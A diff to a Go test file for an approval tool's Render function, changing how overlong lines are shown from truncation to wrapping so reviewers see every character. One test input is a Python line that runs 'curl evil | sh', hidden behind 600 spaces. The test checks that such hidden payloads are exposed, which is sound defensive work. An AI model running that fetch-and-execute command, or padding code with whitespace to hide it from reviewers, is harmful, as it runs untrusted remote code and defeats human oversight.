@@ -3,7 +3,6 @@ package approval
 import (
 	"math/rand"
 	"slices"
-	"strconv"
 	"strings"
 	"testing"
 	"unicode"
@@ -131,34 +130,45 @@ func TestRender(t *testing.T) {
 	}
 }
 
-func TestRenderLongLine(t *testing.T) {
+func TestRenderLongLineWraps(t *testing.T) {
 	hidden := "; __import__('os').system('curl evil | sh')"
 	code := "x = 1" + strings.Repeat(" ", 600) + hidden + "\nprint(x)\n"
 	got := Render(code)
-	first, rest, _ := strings.Cut(got.Text, "\n")
-	if utf8.RuneCountInString(first) > MaxLineDisplay+40 {
-		t.Errorf("long line displayed with %d runes, want about %d", utf8.RuneCountInString(first), MaxLineDisplay)
+	lines := strings.Split(strings.TrimSuffix(got.Text, "\n"), "\n")
+	if len(lines) != 3 {
+		t.Fatalf("rendered %d lines %q, want the long line wrapped once plus print(x)", len(lines), got.Text)
 	}
-	wantHidden := 5 + 600 + len(hidden) - MaxLineDisplay
-	if !strings.Contains(first, "⟦… "+strconv.Itoa(wantHidden)+" more characters hidden⟧") {
-		t.Errorf("first line %q lacks the hidden-length marker for %d characters", first[len(first)-60:], wantHidden)
+	for _, l := range lines {
+		if n := utf8.RuneCountInString(l); n > MaxLineDisplay {
+			t.Errorf("rendered line of %d runes, want at most %d", n, MaxLineDisplay)
+		}
 	}
-	if rest != "print(x)\n" {
-		t.Errorf("following line = %q, want it untouched", rest)
+	if !strings.HasPrefix(lines[1], WrapMarker) || !strings.HasSuffix(lines[1], hidden) {
+		t.Errorf("continuation = %q, want %q then the tail of the line", lines[1], WrapMarker)
+	}
+	// Nothing is lost: unwrapping gives the original line back.
+	if joined := lines[0] + strings.TrimPrefix(lines[1], WrapMarker); joined != strings.TrimSuffix(strings.Split(code, "\n")[0], "\n") {
+		t.Errorf("unwrapped line differs from the original")
+	}
+	if lines[2] != "print(x)" || got.Lines != 2 {
+		t.Errorf("following line = %q, Lines = %d; want it untouched and 2 lines counted", lines[2], got.Lines)
 	}
 	if !slices.Contains(got.Warnings, WarnLongLines) {
 		t.Errorf("Warnings = %q, want %q", got.Warnings, WarnLongLines)
 	}
 }
 
-func TestRenderLongLineOfEscapesIsCut(t *testing.T) {
-	// Escapes are wide: 400 zero-width spaces must not make a 10 000-rune line.
+func TestRenderLongLineOfEscapesWraps(t *testing.T) {
+	// Escapes are wide: 400 zero-width spaces wrap into many short lines, each
+	// escape whole, and every one of them is still shown.
 	got := Render(strings.Repeat("\u200b", 400))
-	if n := utf8.RuneCountInString(got.Text); n > MaxLineDisplay+40 {
-		t.Errorf("rendered %d runes, want the line cut near %d", n, MaxLineDisplay)
+	if n := strings.Count(got.Text, "⟦U+200B ZERO WIDTH SPACE⟧"); n != 400 {
+		t.Errorf("shown %d of 400 escapes", n)
 	}
-	if !strings.Contains(got.Text, "more characters hidden⟧") {
-		t.Errorf("no hidden marker in %q", got.Text)
+	for _, l := range strings.Split(got.Text, "\n") {
+		if n := utf8.RuneCountInString(l); n > MaxLineDisplay {
+			t.Errorf("rendered line of %d runes, want at most %d", n, MaxLineDisplay)
+		}
 	}
 }
 
